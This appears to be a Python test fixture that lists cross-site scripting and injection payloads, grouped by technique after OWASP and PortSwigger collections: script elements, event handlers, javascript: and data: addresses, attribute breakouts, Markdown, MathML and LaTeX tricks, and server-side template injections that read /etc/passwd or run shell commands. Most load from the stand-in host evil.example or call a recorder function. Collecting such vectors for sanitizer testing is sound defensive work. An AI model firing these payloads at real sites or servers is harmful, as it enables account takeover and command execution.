"""Texts that inject scripts, by technique, after the collections of OWASP and PortSwigger.

Each calls `run()`, whose calls the tests record, or sends a request to `evil.example`.
"""

from __future__ import annotations

from typing import Final

_SRC: Final = "https://evil.example/x"

_ELEMENTS: Final = (
    "<script>run()</script>",
    f"<script src={_SRC}.js></script>",
    "<ScRiPt>run()</sCrIpT>",
    "<scr<script>ipt>run()</scr</script>ipt>",
    "<<script>run();//<</script>",
    "<svg><script>run()</script></svg>",
    "<math><mi><script>run()</script></mi></math>",
    f"<iframe src={_SRC}></iframe>",
    "<iframe srcdoc='<script>parent.run()</script>'></iframe>",
    f"<object data={_SRC}.swf></object>",
    "<embed src=javascript:run()>",
    f"<base href={_SRC}/>",
    f"<link rel=stylesheet href={_SRC}.css>",
    "<meta http-equiv=refresh content='0;url=javascript:run()'>",
    f"<meta http-equiv=refresh content='0;url={_SRC}'>",
    f"<form action={_SRC}><button>go</button></form>",
    "<form><button formaction=javascript:run()>go</button></form>",
    "<template><script>run()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=run()>'></noscript>",
    "<style>@import '" + _SRC + ".css';</style>",
    "<style>*{background:url(" + _SRC + ")}</style>",
    "<title></title><script>run()</script>",
    f"<img src={_SRC}.png>",
    f"<img srcset='{_SRC}.png 2x'>",
    f"<picture><source srcset={_SRC}.png><img></picture>",
    f"<video src={_SRC}.mp4 autoplay></video>",
    f"<input type=image src={_SRC}.png>",
    f"<table background={_SRC}.png><td>x</table>",
    f"<svg><image href={_SRC}.png /></svg>",
    f"<svg><use href={_SRC}.svg#x /></svg>",
    f"<div style='background:url({_SRC})'>x</div>",
)
"""Elements that run a script or load a file."""

_HANDLERS: Final = (
    "<img src=x onerror=run()>",
    "<img/src/onerror=run()>",
    "<img src=x onerror&#61;run()>",
    "<img src=x oNeRrOr=run()>",
    "<img src=x on\nerror=run()>",
    "<img \0src=x \0onerror=run()>",
    '<IMG """><img src=x onerror=run()>">',
    "<svg onload=run()>",
    "<svg><animate onbegin=run() attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:run() /><text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:run() /></svg>",
    "<body onload=run()>",
    "<details open ontoggle=run()>x</details>",
    "<video><source onerror=run()></video>",
    "<input autofocus onfocus=run()>",
    "<marquee onstart=run()>x</marquee>",
    "<p onanimationstart=run() style='animation:x 1s'>x</p>",
    "<xss onfocus=run() autofocus tabindex=1>x</xss>",
    "<math href=javascript:run()>x</math>",
)
"""Handlers of events, with and without user interaction."""

_ADDRESSES: Final = (
    "javascript:run()",
    "JaVaScRiPt:run()",
    "\x01javascript:run()",
    "java\tscript:run()",
    "java\nscript:run()",
    "javascript&colon;run()",
    "&#x6A&#x61vascript:run()",
    "javascript:/*--></title></style></textarea></script></xmp>*/run()",
    "vbscript:run()",
    "data:text/html,<script>parent.run()</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='run()'/>",
    'https://a.example/"onmouseover="run()',
    "https://a.example/'onmouseover='run()",
    "https://a.example/><script>run()</script>",
    "//evil.example/x.js",
    'files/"><script>run()</script>',
)
"""Addresses."""

_BREAKOUTS: Final = (
    '"><script>run()</script>',
    "'><script>run()</script>",
    '" autofocus onfocus=run() x="',
    "' autofocus onfocus=run() x='",
    "--><script>run()</script><!--",
    "</title><script>run()</script>",
    "</script><script>run()</script>",
    "</style><script>run()</script>",
    '\\"><script>run()</script>',
    "&lt;script&gt;run()&lt;/script&gt;",
    "%3Cscript%3Erun()%3C/script%3E",
    "+ADw-script+AD4-run()+ADw-/script+AD4-",
    "\uff1cscript\uff1erun()\uff1c/script\uff1e",
)
"""Texts that close an attribute, a comment or a raw text element, or use another encoding."""

_MARKDOWN: Final = (
    "[x](javascript:run())",
    "[x](java&Tab;script:run())",
    "[x](data:text/html,<script>run()</script>)",
    "[x][1]\n\n[1]: javascript:run()",
    "<javascript:run()>",
    '![x" onerror="run()](x.example/y.png)',
    f"![x]({_SRC}.png)",
    '[x](y "z\\" onmouseover=\\"run()")',
    '```"onload="run()\nx\n```',
    "x{onclick=run()}",
    "[x](#){onclick=run() href=javascript:run()}",
    "# x {#y onmouseover=run()}",
    "[^1]\n\n[^1]: <img src=x onerror=run()>",
    "<a href=\"#\" title=\"<img src='photo.jpg' alt='x onmouseover=run() y'>\">x</a>",
    '<a href="&#14; javascript:run()">x</a>',
    "<a href=//evil.example ping=//evil.example>x</a>",
    "<details><summary>x</summary><img src=x onerror=run()></details>",
)
"""Markdown, also with HTML."""

_MATHEMATICS: Final = (
    "$\\href{javascript:run()}{x}$",
    "$\\text{<img src=x onerror=run()>}$",
    "$\\style{x:expression(run())}{y}$",
    '$\\class{"onmouseover=run()}{x}$',
    "\\href{javascript:run()}{x}",
    "<math><annotation-xml encoding=text/html><img src=x onerror=run()></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=run()></style></mglyph></table></mtext></math>",
    '<svg></p><style><a id="</style><img src=x onerror=run()>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=run()>",
)
"""LaTeX, MathML, and markup whose meaning changes when it is parsed again."""

_TEMPLATES: Final = (
    "{{ 7*7 }}{{ self.__init__.__globals__ }}",
    "{% include '/etc/passwd' %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "${run()}",
    "<%= run() %>",
)
"""Template languages."""

_TEXTS: Final = (*_BREAKOUTS, *_MARKDOWN, *_MATHEMATICS, *_TEMPLATES)
VECTORS: Final = (*_ELEMENTS, *_HANDLERS, *_ADDRESSES, *_TEXTS)
